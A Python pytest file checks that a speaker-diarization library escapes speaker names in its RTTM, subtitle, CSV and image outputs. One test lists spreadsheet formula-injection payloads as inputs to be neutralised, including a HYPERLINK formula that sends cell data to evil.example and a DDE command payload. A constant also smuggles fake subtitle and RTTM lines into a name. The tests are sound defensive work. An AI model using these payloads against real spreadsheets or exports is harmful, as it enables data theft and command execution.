from __future__ import annotations

import csv
import html
import io
import re
from dataclasses import replace

import pytest

from speakerid.diarization.formats import clock, csv_rows, labels, png, rttm, srt, vtt
from speakerid.types import SpeakerRef
from tests.diarization.made import ADA, recording

TWO = recording(ADA, None)
NOBODY = recording()


def test_names_are_shown_and_ids_where_two_share_one() -> None:
    assert labels(TWO) == {"spk_1": "Ada B.", "unknown_2": "unknown_2"}
    assert labels(recording(ADA, SpeakerRef("spk_2", "Ada B."))) == {"spk_1": "spk_1", "spk_2": "spk_2"}


def test_rttm_has_ten_fields_a_turn() -> None:
    assert rttm(TWO, "my meeting") == (
        "SPEAKER my_meeting 1 0.250 1.500 <NA> <NA> Ada_B. <NA> <NA>\n"
        "SPEAKER my_meeting 1 2.250 1.500 <NA> <NA> unknown_2 <NA> <NA>\n"
    )
    assert rttm(recording(None, channel=1), "call").split()[2] == "2"


def test_subtitles_name_who_speaks() -> None:
    assert srt(TWO) == ("1\n00:00:00,250 --> 00:00:01,750\nAda B.\n\n2\n00:00:02,250 --> 00:00:03,750\nunknown_2\n\n")


def test_a_name_with_line_breaks_stays_one_subtitle() -> None:
    assert srt(recording(SpeakerRef("spk_1", "Ada\n\n9"))).splitlines()[2] == "Ada 9"


def refs(*names: str) -> list[SpeakerRef]:
    return [SpeakerRef(f"spk_{nth}", name) for nth, name in enumerate(names, 1)]


@pytest.mark.parametrize("names", [("Ada B", "Ada_B"), ("Ada B", "Ada\u00a0B"), ("Ada\u3000B", "Ada  B")], ids=ascii)
def test_names_that_rttm_writes_alike_are_told_apart_by_ids(names: tuple[str, str]) -> None:
    assert [line.split(" ")[7] for line in rttm(recording(*refs(*names)), "x").splitlines()] == ["spk_1", "spk_2"]


@pytest.mark.parametrize(
    ("name", "word"),
    [
        ("Lovelace, Ada", "Lovelace,_Ada"),
        ("<NA>", "NA"),
        (";; comment", ";;_comment"),
        ("نیلوفر\u200cها", "نیلوفر\u200cها"),
        ("👩\u200d🚀", "👩\u200d🚀"),
        ("山田\u3000太郎", "山田_太郎"),
        ("Ada\u2028B\x85C", "Ada_B_C"),
        ("\udceb", "�"),
    ],
    ids=ascii,
)
def test_a_name_is_one_field_of_rttm(name: str, word: str) -> None:
    (line,) = rttm(recording(*refs(name)), name).splitlines()
    assert (line.split()[1], line.split()[7], len(line.split())) == (word, word, 10)
    assert line.encode()


def test_a_speaker_called_like_an_unknown_voice_is_told_apart() -> None:
    assert labels(recording(SpeakerRef("spk_1", "unknown_2"), None)) == {"spk_1": "spk_1", "unknown_2": "unknown_2"}
    assert labels(recording(*refs("Zoe\u0308", "ZOË"))) == {"spk_1": "spk_1", "spk_2": "spk_2"}


def test_webvtt_names_who_speaks() -> None:
    assert vtt(TWO) == (
        "WEBVTT\n\n00:00:00.250 --> 00:00:01.750\n<v Ada B.>Ada B.</v>\n\n"
        "00:00:02.250 --> 00:00:03.750\n<v unknown_2>unknown_2</v>\n"
    )


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("Ada <ada@x.org> & {\\an8}", "Ada \u2039ada@x.org\u203a & (\\an8)"),
        ("<b>Ada", "\u2039b\u203aAda"),
        ("A --> B", "A → B"),
        ("نیلوفر\u200cها", "نیلوفر\u200cها"),
    ],
)
def test_players_find_no_tag_in_a_name(name: str, shown: str) -> None:
    assert srt(recording(*refs(name))).splitlines()[2] == shown
    cue = vtt(recording(*refs(name))).splitlines()[3]
    inside = re.fullmatch(r"<v ([^<>]*)>([^<>]*)</v>", cue)
    assert inside is not None
    assert [html.unescape(one) for one in inside.groups()] == [name, name]


def test_csv_quotes_what_it_must() -> None:
    rows = list(csv.DictReader(io.StringIO(csv_rows(recording(SpeakerRef("spk_1", 'B., "Ada"'), None, channel=1)))))
    assert (rows[0]["speaker"], rows[0]["llr"], rows[0]["channel"]) == ('B., "Ada"', "5.0000", "1")
    assert (rows[1]["voice"], rows[1]["speaker"], rows[1]["llr"]) == ("unknown_2", "", "")
    assert csv_rows(TWO).splitlines()[1] == "0.250,1.750,spk_1,Ada B.,,5.0000,0.9900,false"


@pytest.mark.parametrize("name", ["Ada", "$\\frac{", "名前"])
@pytest.mark.filterwarnings("ignore:Glyph:UserWarning")  # no font has every script; the picture is drawn all the same
def test_the_picture_is_a_png_of_a_row_a_voice(name: str) -> None:
    one, three = png(recording(SpeakerRef("s", name))), png(recording(SpeakerRef("s", name), None, None))
    assert one.startswith(b"\x89PNG")
    assert _height(three) > _height(one)


def _height(picture: bytes) -> int:
    return int.from_bytes(picture[20:24], "big")


def test_no_speech_is_nothing_written() -> None:
    assert (rttm(NOBODY, "x"), srt(NOBODY), vtt(NOBODY), len(csv_rows(NOBODY).splitlines())) == ("", "", "WEBVTT\n", 1)
    assert png(NOBODY).startswith(b"\x89PNG")


@pytest.mark.parametrize(("seconds", "shown"), [(0.0, "0:00.0"), (59.96, "1:00.0"), (3725.5, "1:02:05.5")])
def test_the_clock(seconds: float, shown: str) -> None:
    assert clock(seconds) == shown


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\N{FULLWIDTH EQUALS SIGN}1",
        "\N{FULLWIDTH PLUS SIGN}1",
        "\N{FULLWIDTH HYPHEN-MINUS}1",
        "\N{FULLWIDTH COMMERCIAL AT}A",
    ],
)
def test_a_name_is_no_formula_of_a_spreadsheet(name: str) -> None:
    (row,) = csv.DictReader(io.StringIO(csv_rows(recording(SpeakerRef("spk_1", name))), newline=""))
    assert row["speaker"] == f"'{name}"


@pytest.mark.parametrize("name", ["Ada B.", "Ada-Lou", "ada@example.org", "'t Hooft", "1=2"])
def test_a_usual_name_stays_as_it_is(name: str) -> None:
    (row,) = csv.DictReader(io.StringIO(csv_rows(recording(SpeakerRef("spk_1", name)))))
    assert row["speaker"] == name


def test_numbers_below_zero_stay_numbers() -> None:
    found = recording(ADA)
    (row,) = csv.DictReader(io.StringIO(csv_rows(replace(found, turns=(replace(found.turns[0], llr=-1.5),)))))
    assert row["llr"] == "-1.5000"


HOSTILE = "Ada\r\n\r\n2\n00:00:00,000 --> 00:00:09,000\n\N{LINE SEPARATOR}SPEAKER x 1 0 9 <NA> <NA> Ben <NA> <NA>\x85\t"


def test_no_name_breaks_a_format() -> None:
    found = recording(SpeakerRef("spk_1", HOSTILE))
    (line,) = rttm(found, HOSTILE).splitlines()
    assert len(line.split(" ")) == 10
    assert [at for at, text in enumerate(vtt(found).splitlines()) if "-->" in text] == [2]
    subtitle = srt(found).splitlines()
    assert (len(subtitle), [at for at, text in enumerate(subtitle) if "-->" in text]) == (4, [1])
    (row,) = csv.DictReader(io.StringIO(csv_rows(found), newline=""))
    assert row["speaker"] == HOSTILE
